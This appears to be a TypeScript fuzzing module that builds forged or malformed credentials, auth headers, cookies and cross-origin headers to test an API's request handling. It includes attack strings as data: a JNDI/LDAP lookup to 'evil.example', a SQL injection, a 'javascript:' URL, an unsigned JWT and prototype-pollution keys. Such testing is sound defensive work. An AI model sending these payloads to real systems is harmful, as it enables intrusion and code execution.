import { type Family, plain, someAddress } from './hostile-request.ts'
import { markers } from './markers.ts'
import type { SeededRandom } from '../../random/seeded-random.ts'

const { sentText, sentSecret } = markers

/** A key in a form that is nearly right. */
function malformedKey(random: SeededRandom, valid: string): string {
  const cut = random.between(1, valid.length - 1)
  return random.pick([
    '',
    ' ',
    valid.slice(0, cut),
    `${valid}x`,
    `${valid} `,
    `${valid}, ${valid}`,
    valid.toUpperCase(),
    valid.replace('live', 'test'),
    valid.replaceAll('_', '-'),
    `${valid.slice(0, cut)}\0${valid.slice(cut + 1)}`,
    `${valid.slice(0, cut)}\xe9${valid.slice(cut + 1)}`,
    `alf_live_${sentSecret}`,
    `alf_live_${'a'.repeat(random.pick([1, 43, 500, 12_000]))}`,
    'alf__',
    '__proto__',
    `sk-${sentSecret}`,
    'null',
    'undefined',
    '${jndi:ldap://evil.example}',
    "' OR 1=1 --",
  ])
}

const targets = ['/api/chat', '/api', '/api/unknown', '/API/chat', '/metrics', '/open/items'] as const

/** Credentials, cookies and origins that are forged or malformed. */
export const credentials: Readonly<Record<string, Family>> = {
  'client key': (random, { clientKey }) =>
    plain({
      method: random.pick(['GET', 'POST', 'HEAD']),
      target: random.pick(targets),
      fields: [
        `X-Forwarded-For: ${someAddress(random)}`,
        random.pick(['X-API-Key: ', 'Authorization: Bearer ', 'authorization:bearer ', 'Authorization: ']) +
          malformedKey(random, clientKey),
      ],
    }),
  'invalid keys of one address': (random) =>
    plain({
      target: '/api/chat',
      fields: ['X-Forwarded-For: 203.0.113.200', `X-API-Key: alf_live_${String(random.below(1e9))}`],
    }),
  authorization: (random) =>
    plain({
      target: random.pick(targets),
      fields: [
        `X-Forwarded-For: ${someAddress(random)}`,
        `Authorization: ${random.pick(['', 'Bearer', 'Bearer ', `Basic ${Buffer.from(`admin:${sentSecret}`).toString('base64')}`, 'Basic !!!', 'Digest username="a", uri="/', `Negotiate ${sentSecret}`, 'Bearer a b c', `Bearer\t${sentSecret}`, `bEaReR ${sentSecret}`, `Bearer ${'=.'.repeat(4000)}`, `Bearer eyJhbGciOiJub25lIn0.${sentSecret}.`, ','.repeat(3000), '\xff'])}`,
      ],
    }),
  cookies: (random) =>
    plain({
      target: random.pick(['/', '/open/items', '/api/chat']),
      fields: [
        `Cookie: ${random.pick([`sid=${sentSecret}`, ';;;;=;=', '__proto__=1; constructor=2', `a="${sentSecret}`, 'a=%E0%A4%A', 'a=1; '.repeat(1000), '$Version=1; $Path=/', 'a=\x80\xff', `__Host-x=${sentSecret}; __Host-x=b`])}`,
      ],
    }),
  'cross-site': (random) =>
    plain({
      method: random.pick(['POST', 'PUT', 'DELETE', 'PATCH', 'GET', 'OPTIONS']),
      target: random.pick(['/api/chat', '/form', '/upload', '/open/items', '/']),
      fields: [
        `Origin: ${random.pick(['null', 'https://evil.example', 'https://app.example.com', 'https://app.example.com.evil.example', 'https://app.example.com, https://evil.example', 'http://localhost', '', 'x', `https://${sentText}.example`, 'https://app.example.com:443', 'file://', 'javascript:alert(1)', 'https://[', 'x'.repeat(3000)])}`,
        `Sec-Fetch-Site: ${random.pick(['cross-site', 'same-origin', 'none', 'same-site', '', sentText])}`,
        `Sec-Fetch-Mode: ${random.pick(['navigate', 'no-cors', 'cors', 'websocket', sentText])}`,
        `Sec-Fetch-Dest: ${random.pick(['document', 'empty', 'object', sentText])}`,
        `Referer: ${random.pick([`https://evil.example/${sentText}`, 'x', '', 'https://['])}`,
        `Access-Control-Request-Method: ${random.pick(['POST', 'DELETE', '', sentText, 'GET, POST'])}`,
        `Access-Control-Request-Headers: ${random.pick(['content-type', sentText, 'x,'.repeat(1500), '\x80', ''])}`,
        'Access-Control-Request-Private-Network: true',
      ],
    }),
}
